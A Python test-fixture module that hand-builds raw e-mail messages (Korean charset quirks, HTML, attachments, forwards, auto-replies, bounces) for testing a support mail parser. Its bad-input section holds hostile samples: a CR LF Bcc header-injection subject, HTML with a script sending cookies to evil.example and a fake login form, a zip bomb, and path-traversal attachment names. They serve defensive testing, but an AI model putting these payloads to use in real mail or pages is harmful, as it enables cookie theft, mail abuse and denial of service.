"""Real-world-shaped e-mail messages as raw bytes, made here rather than downloaded.

``message()`` builds one message from keyword arguments; the named shapes below build what real
mailers send, including what the stdlib would never write itself: CP949 bytes labelled EUC-KR,
Outlook's ``ks_c_5601-1987`` label, raw 8-bit headers, multibyte characters split across two
encoded words. Each shape says in its docstring what it imitates.

Messages are written by hand (CRLF line ends, explicit transfer encodings) so that every byte is
what the shape promises. Everything is deterministic except the generated Message-IDs.
"""

import base64
import io
import quopri
import uuid
import zipfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field

CRLF = b"\r\n"
DEFAULT_DATE = "Mon, 02 Mar 2026 09:15:00 +0900"
SUPPORT = "support@trellis.localhost"

# The Korean sample text used by the charset shapes, and what parse() must decode it to.
KOREAN_SUBJECT = "문의드립니다: 엑셀 내보내기 오류"
KOREAN_BODY = "안녕하세요.\n엑셀 내보내기가 오늘 아침부터 안 됩니다.\n\n김민지 드림\n"
KOREAN_NAME = "김민지"
# "똠" and "똠방각하" exist in CP949 (Unified Hangul Code) but not in EUC-KR (KS X 1001):
# Korean Windows mailers send them labelled "euc-kr" or "ks_c_5601-1987" anyway.
CP949_ONLY_SUBJECT = "똠방각하 견적 문의"
CP949_ONLY_BODY = "똠방각하께,\n견적서를 다시 보내 주세요.\n"

ENGLISH_BODY = "Hello,\n\nThe export to Excel fails since this morning.\n\nKim Minji\n"


def new_message_id(domain: str = "example.co.kr") -> str:
    """A fresh Message-ID, with angle brackets."""
    return f"<{uuid.uuid4().hex}@{domain}>"


# --- building blocks ------------------------------------------------------------------------


@dataclass
class Part:
    """One MIME entity: its header lines (already encoded) and its body bytes."""

    headers: list[tuple[str, str | bytes]]
    body: bytes
    # For multiparts: the parts, written between boundary lines.
    parts: list["Part"] = field(default_factory=list)
    boundary: str = ""

    def to_bytes(self) -> bytes:
        out = [_header_line(name, value) for name, value in self.headers]
        out.append(b"")
        head = CRLF.join(out) + CRLF
        if not self.parts:
            return head + self.body
        chunks = [head, self.body]
        for part in self.parts:
            chunks += [b"--", self.boundary.encode(), CRLF, part.to_bytes(), CRLF]
        chunks += [b"--", self.boundary.encode(), b"--", CRLF]
        return b"".join(chunks)


@dataclass
class File:
    """An attachment to be written by ``message()``.

    ``name_encoding`` says how its file name is written in the headers:
    ``"rfc2231"`` (``filename*=utf-8''%EA%B2%AC...``, what Thunderbird and Apple Mail send),
    ``"rfc2047"`` (``filename="=?utf-8?B?...?="``, what Outlook and Gmail send, though RFC 2047
    forbids it inside parameters), ``"raw"`` (the name as raw 8-bit bytes in ``charset``) or
    ``"plain"`` (as given, quoted; for ASCII names and for hostile names).
    """

    filename: str
    data: bytes
    content_type: str = "application/octet-stream"
    name_encoding: str = "rfc2231"
    charset: str = "utf-8"
    disposition: str = "attachment"
    content_id: str = ""


def encoded_word(text: str, charset: str = "utf-8", *, codec: str | None = None) -> str:
    """``text`` as one RFC 2047 B encoded-word labelled ``charset`` (bytes made with ``codec``)."""
    data = text.encode(codec or charset)
    return f"=?{charset}?B?{base64.b64encode(data).decode()}?="


def header_text(text: str, charset: str = "utf-8", *, codec: str | None = None) -> str:
    """``text`` as it goes in a header: as is when ASCII, else one encoded-word."""
    if text.isascii():
        return text
    return encoded_word(text, charset, codec=codec)


def address(display: str, charset: str = "utf-8", *, codec: str | None = None) -> str:
    """``"Name <addr>"`` with the name encoded as RFC 2047 when it is not ASCII."""
    if "<" not in display:
        return display
    name, _, rest = display.partition("<")
    name = name.strip().strip('"')
    if not name:
        return f"<{rest}"
    if name.isascii():
        return f'"{name}" <{rest}' if any(c in name for c in ",.;:@") else f"{name} <{rest}"
    return f"{encoded_word(name, charset, codec=codec)} <{rest}"


def text_part(
    text: str,
    subtype: str = "plain",
    *,
    charset: str | None = "utf-8",
    codec: str | None = None,
    transfer_encoding: str | None = None,
    raw: bytes | None = None,
) -> Part:
    """A text/* part: ``text`` encoded with ``codec`` (default: the ``charset`` label).

    ``charset=None`` leaves the label out. ``raw`` gives the body bytes directly. The transfer
    encoding defaults to 7bit for ASCII and base64 otherwise; "8bit" and "quoted-printable"
    are there for the shapes that need them.
    """
    data = (
        raw if raw is not None else text.replace("\n", "\r\n").encode(codec or charset or "utf-8")
    )
    if transfer_encoding is None:
        transfer_encoding = "7bit" if data.isascii() else "base64"
    content_type = f"text/{subtype}"
    if charset is not None:
        content_type += f'; charset="{charset}"'
    headers: list[tuple[str, str | bytes]] = [("Content-Type", content_type)]
    headers.append(("Content-Transfer-Encoding", transfer_encoding))
    return Part(headers, _transfer_encode(data, transfer_encoding))


def file_part(file: File) -> Part:
    """``file`` as a base64 part, its name written per ``file.name_encoding``."""
    name = file.filename
    if file.name_encoding == "rfc2231":
        if name.isascii() and '"' not in name:
            param = f'filename="{name}"'
            type_param = f'name="{name}"'
        else:
            quoted = "".join(
                chr(b) if (chr(b).isalnum() and b < 128) or chr(b) in "-._~" else f"%{b:02X}"
                for b in name.encode(file.charset)
            )
            param = f"filename*={file.charset}''{quoted}"
            type_param = f"name*={file.charset}''{quoted}"
    elif file.name_encoding == "rfc2047":
        word = header_text(name, file.charset)
        param = f'filename="{word}"'
        type_param = f'name="{word}"'
    elif file.name_encoding == "raw":
        param = f'filename="{name}"'
        type_param = f'name="{name}"'
    elif file.name_encoding == "plain":
        escaped = name.replace("\\", "\\\\").replace('"', '\\"')
        param = f'filename="{escaped}"'
        type_param = f'name="{escaped}"'
    else:
        raise ValueError(file.name_encoding)
    headers: list[tuple[str, str | bytes]] = [
        ("Content-Type", f"{file.content_type}; {type_param}"),
        ("Content-Disposition", f"{file.disposition}; {param}"),
        ("Content-Transfer-Encoding", "base64"),
    ]
    if file.name_encoding == "raw":
        # Raw 8-bit parameters: the header line itself carries the encoded bytes.
        headers = [(n, v.encode(file.charset) if isinstance(v, str) else v) for n, v in headers]
    if file.content_id:
        headers.append(("Content-ID", f"<{file.content_id}>"))
    return Part(headers, _transfer_encode(file.data, "base64"))


def multipart(subtype: str, parts: Sequence[Part], *, params: str = "", preamble: str = "") -> Part:
    """A multipart/``subtype`` of ``parts`` with a fresh boundary; ``params`` are added as is."""
    boundary = f"=_trellis_{uuid.uuid4().hex[:16]}"
    content_type = f'multipart/{subtype}; boundary="{boundary}"'
    if params:
        content_type += f"; {params}"
    body = (preamble.encode() + CRLF) if preamble else b""
    return Part([("Content-Type", content_type)], body, list(parts), boundary)


def message(
    *,
    subject: str | None = "Export to Excel fails",
    body: str = ENGLISH_BODY,
    sender: str | None = "Kim Minji <minji@example.co.kr>",
    to: str = SUPPORT,
    cc: str | None = None,
    message_id: str | None = None,
    in_reply_to: str | None = None,
    references: Iterable[str] = (),
    charset: str = "utf-8",
    codec: str | None = None,
    html: str | None = None,
    html_only: bool = False,
    attachments: Iterable[File | Part] = (),
    headers: dict[str, str | bytes] | Sequence[tuple[str, str | bytes]] | None = None,
    date: str | None = DEFAULT_DATE,
    transfer_encoding: str | None = None,
    content: Part | None = None,
) -> bytes:
    """One message as raw bytes.

    ``subject``, the sender's name and ``body`` are encoded with ``codec`` (default: the
    ``charset`` label) and labelled ``charset``. ``message_id=None`` generates one; pass ``""``
    for none. ``subject=None`` and ``sender=None`` leave the header out. Message-IDs are given
    with or without angle brackets. ``headers`` are added as given (already encoded; bytes for
    raw 8-bit values). ``content`` replaces the body structure made from the other arguments.
    """
    if content is None:
        content = _content(body, html, html_only, charset, codec, transfer_encoding)
    extra = [file_part(a) if isinstance(a, File) else a for a in attachments]
    if extra:
        content = multipart("mixed", [content, *extra])

    top: list[tuple[str, str | bytes]] = []
    if sender is not None:
        top.append(("From", address(sender, charset, codec=codec)))
    top.append(("To", to))
    if cc:
        top.append(("Cc", cc))
    if subject is not None:
        top.append(("Subject", header_text(subject, charset, codec=codec)))
    if date:
        top.append(("Date", date))
    if message_id is None:
        message_id = new_message_id()
    if message_id:
        top.append(("Message-ID", _bracket(message_id)))
    if in_reply_to:
        top.append(("In-Reply-To", _bracket(in_reply_to)))
    refs = [_bracket(r) for r in references]
    if refs:
        top.append(("References", " ".join(refs)))
    top.append(("MIME-Version", "1.0"))
    items = headers.items() if isinstance(headers, dict) else (headers or ())
    top.extend(items)
    return Part(top + content.headers, content.body, content.parts, content.boundary).to_bytes()


def _content(
    body: str,
    html: str | None,
    html_only: bool,
    charset: str,
    codec: str | None,
    transfer_encoding: str | None,
) -> Part:
    plain = text_part(body, charset=charset, codec=codec, transfer_encoding=transfer_encoding)
    if html is None:
        if html_only:
            raise ValueError("html_only needs html")
        return plain
    rich = text_part(html, "html", charset=charset, codec=codec)
    return rich if html_only else multipart("alternative", [plain, rich])


# --- Korean charsets ------------------------------------------------------------------------

KOREAN_CHARSETS = (
    "utf-8",
    "euc-kr",
    "cp949-as-euc-kr",
    "ks_c_5601-1987",
    "iso-2022-kr",
    "missing",
    "unknown",
    "wrong",
)


def korean(charset: str = "utf-8") -> bytes:
    """A Korean customer's message in one of ``KOREAN_CHARSETS``.

    - ``utf-8``, ``euc-kr``: correctly labelled; subject, sender name and body in that charset.
    - ``cp949-as-euc-kr``: a Korean Windows mailer writing "똠방각하" (CP949-only syllables) and
      labelling it "euc-kr"; subject ``CP949_ONLY_SUBJECT``, body ``CP949_ONLY_BODY``.
    - ``ks_c_5601-1987``: Outlook's label for CP949, with CP949-only syllables as above.
    - ``iso-2022-kr``: the old 7-bit Korean mail encoding, in headers and body.
    - ``missing``: an old mailer that sends 8-bit EUC-KR with no charset at all, and a raw
      8-bit subject (decodable only by guessing).
    - ``unknown``: UTF-8 bytes labelled "x-unknown-korean", a label no one knows.
    - ``wrong``: CP949 bytes labelled "utf-8" (a broken gateway re-labelling mail).
    """
    sender = f"{KOREAN_NAME} <minji@example.co.kr>"
    if charset in ("utf-8", "euc-kr"):
        return message(subject=KOREAN_SUBJECT, body=KOREAN_BODY, sender=sender, charset=charset)
    if charset == "cp949-as-euc-kr":
        return message(
            subject=CP949_ONLY_SUBJECT,
            body=CP949_ONLY_BODY,
            sender=sender,
            charset="euc-kr",
            codec="cp949",
        )
    if charset == "ks_c_5601-1987":
        return message(
            subject=CP949_ONLY_SUBJECT,
            body=CP949_ONLY_BODY,
            sender=sender,
            charset="ks_c_5601-1987",
            codec="cp949",
        )
    if charset == "iso-2022-kr":
        return message(
            subject=KOREAN_SUBJECT,
            body=KOREAN_BODY,
            sender=sender,
            charset="iso-2022-kr",
            transfer_encoding="7bit",
        )
    if charset == "missing":
        return message(
            subject=None,
            sender="minji@example.co.kr",
            headers=[("Subject", KOREAN_SUBJECT.encode("euc-kr"))],
            content=text_part(KOREAN_BODY, charset=None, codec="euc-kr", transfer_encoding="8bit"),
        )
    if charset == "unknown":
        return message(
            subject=KOREAN_SUBJECT,
            body=KOREAN_BODY,
            sender=sender,
            charset="x-unknown-korean",
            codec="utf-8",
        )
    if charset == "wrong":
        return message(
            subject=KOREAN_SUBJECT,
            body=KOREAN_BODY,
            sender=sender,
            charset="utf-8",
            codec="cp949",
        )
    raise ValueError(charset)


def raw_8bit_headers(charset: str = "utf-8") -> bytes:
    """Subject and sender name as raw 8-bit bytes in ``charset``, with no encoded-words.

    Many webmail services write UTF-8 headers this way (RFC 6532); old Korean mailers do the
    same with EUC-KR. The body is correctly labelled.
    """
    parts = [
        f"From: {KOREAN_NAME} <minji@example.co.kr>",
        f"To: {SUPPORT}",
        f"Subject: {KOREAN_SUBJECT}",
        f"Date: {DEFAULT_DATE}",
        f"Message-ID: {new_message_id()}",
        "MIME-Version: 1.0",
        f'Content-Type: text/plain; charset="{charset}"',
        "Content-Transfer-Encoding: 8bit",
        "",
        KOREAN_BODY.replace("\n", "\r\n"),
    ]
    return "\r\n".join(parts).encode(charset)


def split_encoded_words() -> bytes:
    """A subject whose UTF-8 bytes are cut mid-character across two encoded-words.

    Korean mailers fold long subjects by bytes, not characters; the words must be joined before
    decoding (RFC 2047 says not to do this, real mailers do it anyway).
    """
    data = KOREAN_SUBJECT.encode("utf-8")
    cut = 4  # inside the second syllable (3 bytes each)
    first = base64.b64encode(data[:cut]).decode()
    second = base64.b64encode(data[cut:]).decode()
    subject = f"=?utf-8?B?{first}?=\r\n =?utf-8?B?{second}?="
    return message(subject=None, body=KOREAN_BODY, headers=[("Subject", subject)])


# --- HTML ---------------------------------------------------------------------------------

HTML_BODY = (
    "<html><head><title>ignored</title><style>p { color: red }</style></head><body>"
    '<div dir="ltr"><p>Hello&nbsp;team,</p>'
    "<p>The export to <b>Excel</b> fails &amp; the screen goes blank.<br>"
    "It started this morning.</p>"
    "<ul><li>Chrome 133</li><li>Windows 11</li></ul>"
    '<p>See <a href="https://example.co.kr/screenshot">the screenshot</a>.</p>'
    "<p>Kim Minji</p></div></body></html>"
)
# What a reader should see of HTML_BODY.
HTML_BODY_TEXT = (
    "Hello team,\n\n"
    "The export to Excel fails & the screen goes blank.\n"
    "It started this morning.\n\n"
    "- Chrome 133\n- Windows 11\n\n"
    "See the screenshot (https://example.co.kr/screenshot).\n\n"
    "Kim Minji"
)


def html_only(html: str = HTML_BODY, **kwargs) -> bytes:
    """A webmail message with only a text/html part (no text/plain alternative)."""
    return message(html=html, html_only=True, **kwargs)


def alternative(**kwargs) -> bytes:
    """multipart/alternative: the usual text/plain and text/html pair of one message."""
    kwargs.setdefault("html", HTML_BODY)
    return message(**kwargs)


# --- attachments --------------------------------------------------------------------------

PDF_BYTES = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG_BYTES = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x9a\xa0\xa0"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)


def with_attachment(
    name: str = "견적서.pdf",
    data: bytes = PDF_BYTES,
    content_type: str = "application/pdf",
    *,
    name_encoding: str = "rfc2231",
    charset: str = "utf-8",
    **kwargs,
) -> bytes:
    """A message with one attachment whose name is written per ``name_encoding`` (see ``File``).

    ``charset`` is the charset of the encoded name (e.g. "ks_c_5601-1987" as Outlook writes it,
    then the name's bytes are CP949).
    """
    codec = "cp949" if charset.lower() in ("ks_c_5601-1987", "euc-kr") else charset
    file = File(name, data, content_type, name_encoding=name_encoding, charset=charset)
    if codec != charset:
        file = _file_with_codec(file, codec)
    return message(attachments=[file], **kwargs)


def _file_with_codec(file: File, codec: str) -> Part:
    """``file`` with its name encoded by ``codec`` but labelled with its own charset label."""
    encoded = File(file.filename, file.data, file.content_type, file.name_encoding, codec)
    part = file_part(encoded)
    fixed: list[tuple[str, str | bytes]] = []
    for name, value in part.headers:
        if isinstance(value, str):
            value = value.replace(f"=?{codec}?", f"=?{file.charset}?")
            value = value.replace(f"*={codec}''", f"*={file.charset}''")
        fixed.append((name, value))
    return Part(fixed, part.body)


def inline_image(**kwargs) -> bytes:
    """HTML with an image embedded by Content-ID (multipart/related), as Outlook sends it."""
    html = '<p>See the error:</p><p><img src="cid:shot1@example.co.kr" alt="error"></p>'
    related = multipart(
        "related",
        [
            text_part(html, "html"),
            file_part(
                File(
                    "image001.png",
                    PNG_BYTES,
                    "image/png",
                    disposition="inline",
                    content_id="shot1@example.co.kr",
                )
            ),
        ],
    )
    alt = multipart("alternative", [text_part("See the error:\n[image: error]\n"), related])
    return message(content=alt, **kwargs)


# --- forwarded ----------------------------------------------------------------------------

FORWARDED_TEXT = "The invoice is attached.\n\nPark Jisoo\n"


def forwarded(kind: str = "rfc822") -> bytes:
    """A customer forwarding a colleague's message to support.

    - ``rfc822``: "forward as attachment" (Thunderbird, Outlook): a message/rfc822 part whose
      own body is ``FORWARDED_TEXT`` and which carries ``invoice-2026-03.pdf``.
    - ``inline``: Gmail's "---------- Forwarded message ---------" block in the body, with the
      forwarded message's attachment added to the outer message.
    """
    inner = message(
        subject="Invoice for March",
        body=FORWARDED_TEXT,
        sender="Park Jisoo <jisoo@example.co.kr>",
        to="minji@example.co.kr",
        attachments=[File("invoice-2026-03.pdf", PDF_BYTES, "application/pdf")],
    )
    note = "Please see the message from Jisoo below.\n"
    if kind == "rfc822":
        inner_part = Part(
            [("Content-Type", "message/rfc822"), ("Content-Disposition", "inline")],
            inner,
        )
        return message(subject="Fwd: Invoice for March", body=note, attachments=[inner_part])
    if kind == "inline":
        body = (
            f"{note}\n"
            "---------- Forwarded message ---------\n"
            "From: Park Jisoo <jisoo@example.co.kr>\n"
            "Date: Mon, 2 Mar 2026 at 08:00\n"
            "Subject: Invoice for March\n"
            "To: <minji@example.co.kr>\n\n"
            f"{FORWARDED_TEXT}"
        )
        return message(
            subject="Fwd: Invoice for March",
            body=body,
            attachments=[File("invoice-2026-03.pdf", PDF_BYTES, "application/pdf")],
        )
    raise ValueError(kind)


# --- automated mail -----------------------------------------------------------------------

AUTO_REPLY_KINDS = (
    "auto-submitted",
    "auto-generated",
    "x-autoreply",
    "x-autorespond",
    "precedence-bulk",
    "precedence-junk",
    "precedence-list",
    "list-id",
    "vacation-en",
    "automatic-reply-en",
    "auto-prefix",
    "vacation-ko",
    "automatic-reply-ko",
)


def auto_reply(kind: str = "auto-submitted") -> bytes:
    """Mail no person wrote, by what gives it away (one of ``AUTO_REPLY_KINDS``).

    - ``auto-submitted``: RFC 3834 ``Auto-Submitted: auto-replied`` (Gmail, Exchange).
    - ``auto-generated``: ``Auto-Submitted: auto-generated`` (a monitoring system).
    - ``x-autoreply`` / ``x-autorespond``: the older non-standard headers.
    - ``precedence-bulk`` / ``-junk`` / ``-list``: ``Precedence:`` of mass mail.
    - ``list-id``: a mailing-list post (``List-Id`` and ``List-Unsubscribe``), no Precedence.
    - ``vacation-en``: subject "Out of Office: ..." and no header at all.
    - ``automatic-reply-en``: Outlook's "Automatic reply: ..." with no header.
    - ``auto-prefix``: Lotus Notes / some Exchange setups: "Auto: ..." with no header.
    - ``vacation-ko``: "[부재중] ..." with no header.
    - ``automatic-reply-ko``: Outlook in Korean, "자동 회신: ...", with no header.
    """
    base = {"sender": "Lee Minho <minho@example.co.kr>", "subject": "Re: Export to Excel fails"}
    body = "I am out of the office until 10 March with limited access to e-mail.\n"
    headers: dict[str, str] = {}
    if kind == "auto-submitted":
        headers = {"Auto-Submitted": "auto-replied"}
    elif kind == "auto-generated":
        headers = {"Auto-Submitted": "auto-generated"}
    elif kind == "x-autoreply":
        headers = {"X-Autoreply": "yes"}
    elif kind == "x-autorespond":
        headers = {"X-Autorespond": "Out of office"}
    elif kind.startswith("precedence-"):
        headers = {"Precedence": kind.removeprefix("precedence-")}
        body = "This week's newsletter.\n"
    elif kind == "list-id":
        headers = {
            "List-Id": "Trellis users <users.lists.example.org>",
            "List-Unsubscribe": "<mailto:users-leave@lists.example.org>",
        }
        body = "A question to the whole list.\n"
    elif kind == "vacation-en":
        base["subject"] = "Out of Office: Export to Excel fails"
    elif kind == "automatic-reply-en":
        base["subject"] = "Automatic reply: Export to Excel fails"
    elif kind == "auto-prefix":
        base["subject"] = "Auto: Export to Excel fails"
    elif kind == "vacation-ko":
        base["subject"] = "[부재중] 엑셀 내보내기 오류"
        body = "3월 10일까지 부재중입니다.\n"
    elif kind == "automatic-reply-ko":
        base["subject"] = "자동 회신: 엑셀 내보내기 오류"
        body = "휴가 중입니다. 3월 10일에 복귀합니다.\n"
    else:
        raise ValueError(kind)
    return message(body=body, headers=headers, **base)


def bounce(original: bytes | None = None) -> bytes:
    """A delivery status notification (RFC 3464) from MAILER-DAEMON, as Postfix writes it.

    multipart/report; report-type=delivery-status: a human-readable part, the machine-readable
    message/delivery-status, and the headers of the original (message/rfc822-headers).
    """
    if original is None:
        original = message(
            subject="Your case CS-2026-000001",
            sender="Trellis Support <support@trellis.localhost>",
            to="nobody@example.co.kr",
        )
    original_headers = original.split(b"\r\n\r\n", 1)[0] + CRLF
    human = text_part(
        "This is the mail system at host mx.trellis.localhost.\n\n"
        "I'm sorry to have to inform you that your message could not\n"
        "be delivered to one or more recipients.\n\n"
        "<nobody@example.co.kr>: host mx.example.co.kr said: 550 5.1.1 User unknown\n",
        charset="us-ascii",
    )
    human.headers.insert(0, ("Content-Description", "Notification"))
    status = Part(
        [("Content-Type", "message/delivery-status"), ("Content-Description", "Delivery report")],
        (
            b"Reporting-MTA: dns; mx.trellis.localhost\r\n"
            b"Arrival-Date: Mon,  2 Mar 2026 09:15:00 +0900 (KST)\r\n\r\n"
            b"Final-Recipient: rfc822; nobody@example.co.kr\r\n"
            b"Action: failed\r\n"
            b"Status: 5.1.1\r\n"
            b"Diagnostic-Code: smtp; 550 5.1.1 User unknown\r\n"
        ),
    )
    headers_part = Part(
        [
            ("Content-Type", "text/rfc822-headers"),
            ("Content-Description", "Undelivered Message Headers"),
        ],
        original_headers,
    )
    report = multipart(
        "report",
        [human, status, headers_part],
        params="report-type=delivery-status",
        preamble="This is a MIME-encapsulated message.",
    )
    top: list[tuple[str, str | bytes]] = [
        ("From", "MAILER-DAEMON@mx.trellis.localhost (Mail Delivery System)"),
        ("To", SUPPORT),
        ("Subject", "Undelivered Mail Returned to Sender"),
        ("Date", DEFAULT_DATE),
        ("Message-ID", new_message_id("mx.trellis.localhost")),
        ("Auto-Submitted", "auto-replied"),
        ("MIME-Version", "1.0"),
    ]
    return Part(top + report.headers, report.body, report.parts, report.boundary).to_bytes()


def bounce_without_headers() -> bytes:
    """A DSN from a server that sets no Auto-Submitted: only the report type gives it away."""
    raw = bounce()
    return raw.replace(b"Auto-Submitted: auto-replied\r\n", b"").replace(
        b"MAILER-DAEMON@mx.trellis.localhost (Mail Delivery System)",
        b"Mail Delivery System <delivery@mx.trellis.localhost>",
    )


def postmaster_notice() -> bytes:
    """A plain-text notice from postmaster@ (no multipart/report), e.g. a quota warning."""
    return message(
        sender="postmaster@example.co.kr",
        subject="Delivery delayed",
        body="Your message has not been delivered yet. The server will keep trying.\n",
    )


# --- bad input ----------------------------------------------------------------------------

INJECTED_SUBJECT = "Help\r\nBcc: victim@example.com\r\n\r\nInjected body"


def no_from() -> bytes:
    """A message with no From header at all (a broken script or a spam tool)."""
    return message(sender=None)


def header_injection_subject() -> bytes:
    """A subject whose encoded-word decodes to CR LF and a Bcc header (``INJECTED_SUBJECT``).

    Harmless while it is an encoded-word; dangerous once the decoded subject is written into an
    outgoing mail's headers ("Re: <subject>").
    """
    return message(subject=None, headers=[("Subject", encoded_word(INJECTED_SUBJECT))])


SCRIPT_HTML = (
    "<html><head><script>alert('head')</script>"
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    "<style>body{background:url(https://evil.example/bg.png)}</style></head>"
    '<body onload="steal()">'
    "<p>Hello<script>document.location='https://evil.example/?c='+document.cookie</script></p>"
    '<p><a href="javascript:alert(1)">click me</a> '
    '<a href="https://example.co.kr/help" target="_blank">help</a></p>'
    '<p><img src="https://tracker.example/pixel.gif" width="1" height="1">'
    '<img src="cid:logo@example.co.kr" alt="logo">'
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline"></p>'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<form action="https://evil.example/login"><input name="password"></form>'
    '<p onclick="steal()" style="color:red">Bye</p>'
    "<svg><script>alert(2)</script></svg>"
    "</body></html>"
)


def script_html() -> bytes:
    """HTML-only mail carrying every common active content trick (``SCRIPT_HTML``)."""
    return html_only(SCRIPT_HTML)


# The zip below expands to this many bytes; its compressed size is about a thousandth of it.
ZIP_BOMB_EXPANDED = 64 * 1024 * 1024


def zip_bomb() -> bytes:
    """A small zip of one file of zeros that expands to ``ZIP_BOMB_EXPANDED`` bytes."""
    if not _cache.get("zip"):
        buffer = io.BytesIO()
        chunk = bytes(1024 * 1024)
        with (
            zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
            archive.open("zeros.bin", "w", force_zip64=True) as member,
        ):
            for _ in range(ZIP_BOMB_EXPANDED // len(chunk)):
                member.write(chunk)
        _cache["zip"] = buffer.getvalue()
    return _cache["zip"]


_cache: dict[str, bytes] = {}


def zip_bomb_attachment() -> bytes:
    """A message with ``zip_bomb()`` attached as "logs.zip"."""
    return message(
        subject="Logs attached", attachments=[File("logs.zip", zip_bomb(), "application/zip")]
    )


PATH_NAMES = ("../../etc/passwd", "C:\\Windows\\evil.exe")


def path_in_attachment_name() -> bytes:
    """Two attachments whose names are paths: a Unix traversal and a Windows path."""
    return message(
        subject="Files",
        attachments=[
            File(PATH_NAMES[0], b"root:x:0:0:root:/root:/bin/bash\n", "text/plain", "plain"),
            File(PATH_NAMES[1], b"MZ\x90\x00", "application/octet-stream", "plain"),
        ],
    )


def big(size: int, **kwargs) -> bytes:
    """A message of at least ``size`` bytes: one attachment of zeros (base64 adds a third)."""
    data = bytes(max(0, size * 3 // 4))
    return message(attachments=[File("big.bin", data)], **kwargs)


# --- helpers -------------------------------------------------------------------------------


def _bracket(message_id: str) -> str:
    message_id = message_id.strip()
    return message_id if message_id.startswith("<") else f"<{message_id}>"


def _header_line(name: str, value: str | bytes) -> bytes:
    if isinstance(value, bytes):
        return name.encode() + b": " + value
    return f"{name}: {value}".encode()


def _transfer_encode(data: bytes, transfer_encoding: str) -> bytes:
    if transfer_encoding == "base64":
        encoded = base64.b64encode(data)
        lines = [encoded[i : i + 76] for i in range(0, len(encoded), 76)]
        return CRLF.join(lines) + CRLF
    if transfer_encoding == "quoted-printable":
        return quopri.encodestring(data.replace(CRLF, b"\n")).replace(b"\n", CRLF)
    if transfer_encoding in ("7bit", "8bit", "binary"):
        return data if data.endswith(b"\n") or not data else data + CRLF
    raise ValueError(transfer_encoding)
